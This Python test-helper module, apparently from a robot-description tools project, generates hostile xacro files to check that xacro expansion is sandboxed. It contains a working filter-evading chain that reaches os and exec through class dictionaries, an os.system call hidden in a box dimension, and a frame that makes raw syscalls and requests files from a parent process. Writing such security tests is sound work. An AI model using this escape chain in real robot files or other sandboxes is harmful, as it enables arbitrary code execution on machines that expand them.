# Copyright 2026 The robot_description_tools developers
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""
Attacks on the process that expands xacro: files whose expansion runs a given Python text.

The attack reads attributes from the dictionaries of classes. The keys of these dictionaries are
strings, so a filter that searches for forbidden names does not find the attack.

"""

from __future__ import annotations

import json
from pathlib import Path

HEAD = '<robot name="r" xmlns:xacro="http://www.ros.org/wiki/xacro">'
# The steps from the dictionary of a class to the content of the module `os`.
TO_OS = """\
<xacro:property name="T" value="${python.vars(python.type)}"/>
<xacro:property name="subs" value="${T['__subclasses__'](python.type.mro(int)[-1])}"/>
<xacro:property name="wrap" value="${[c for c in subs if '_wrap_close' in str(c)][0]}"/>
<xacro:property name="fn" value="${python.vars(wrap)['__init__']}"/>
<xacro:property name="gd" value="${python.vars(python.type(fn))['__globals__']}"/>
<xacro:property name="os" value="${python.vars(python.type(gd))['__get__'](gd, fn)}"/>
"""
_ESCAPE = TO_OS + """\
<xacro:property name="b" value="${os['__builtins__']}"/>
<xacro:property name="code" value="${xacro.load_yaml('attack.yaml')}"/>
<link name="${[b['exec'](code, n) or n['told'] for n in [b['dict']([('__builtins__', b)])]][0]}"/>
"""
# The name of the link contains the value that the Python text stored in `got`, or the error that
# the text raised.
_FRAME = """\
import ctypes
import json
import mmap
import os
import signal
import socket
import sys
HERE = {here!r}
OUTSIDE = {outside!r}
def system_call(number, *words):
    libc = ctypes.CDLL(None, use_errno=True)
    ctypes.set_errno(0)
    result = libc.syscall(number, *map(ctypes.c_long, words))
    if result < 0:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))
    return result
def ask(*question):
    (fd,) = (fd for fd in range(3, 64) if is_socket(fd))
    ours = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM, 0, fileno=fd)
    os.write(fd, json.dumps(question).encode())
    reply, opened, *_ = socket.recv_fds(ours, 2**17, 1)
    ours.detach()
    return os.fdopen(opened[0]).read() if opened else json.loads(reply)
def is_socket(fd):
    try: return os.fstat(fd).st_mode >> 12 == 12
    except OSError: return False
def stop_clocks():
    for clock in (signal.ITIMER_REAL, signal.ITIMER_VIRTUAL, signal.ITIMER_PROF):
        signal.setitimer(clock, 0)
try:
    got = 'nothing'
    exec({attack!r})
    told = 'GOT ' + str(got)
except BaseException as error:
    told = 'FAILED ' + type(error).__name__ + ' ' + str(error)
"""

# A program without xacro can also read this robot, except for the box. xacro evaluates the
# property `x`, because the box uses it.
_MAKES = f"""{HEAD}{TO_OS}<xacro:property name="x" value="${{os['system']('touch MADE')}}"/>
<link name="base"><visual><geometry><box size="1 1 ${{1 + x}}"/></geometry></visual></link>
<link name="tip"/>
<joint name="turn" type="revolute"><parent link="base"/><child link="tip"/><axis xyz="0 0 1"/>
  <limit lower="-1" upper="1" effort="1" velocity="1"/></joint>
</robot>
"""


def write_maker(file: Path) -> Path:
    """Write a robot whose expansion creates a file. Return the path of this created file."""
    made = file.with_name('made')
    file.write_text(_MAKES.replace('MADE', str(made)), encoding='utf-8')
    return made


def write_attack(folder: Path, attack: str, outside: Path) -> Path:
    """
    Write a xacro file whose expansion runs a Python text. Return its path.

    Parameters
    ----------
    folder : Path
        Folder of the file. The expansion must run in this folder.
    attack : str
        The Python text, which may set ``got``. ``HERE`` is the folder. ``ask('open', path)`` asks
        the parent process for the text of a file. It returns this text, or a list with the reason
        why the parent refuses.
    outside : Path
        A file that the Python text must not be able to read. In the Python text, the path of this
        file is ``OUTSIDE``.

    """
    text = _FRAME.format(here=str(folder), outside=str(outside), attack=attack)
    # Write JSON, which is also valid YAML.
    (folder / 'attack.yaml').write_text(json.dumps(text), encoding='utf-8')
    file = folder / 'attack.xacro'
    escape = _ESCAPE.replace("'attack.yaml'", f"'{folder / 'attack.yaml'}'")
    file.write_text(f'{HEAD}\n{escape}</robot>\n', encoding='utf-8')
    return file
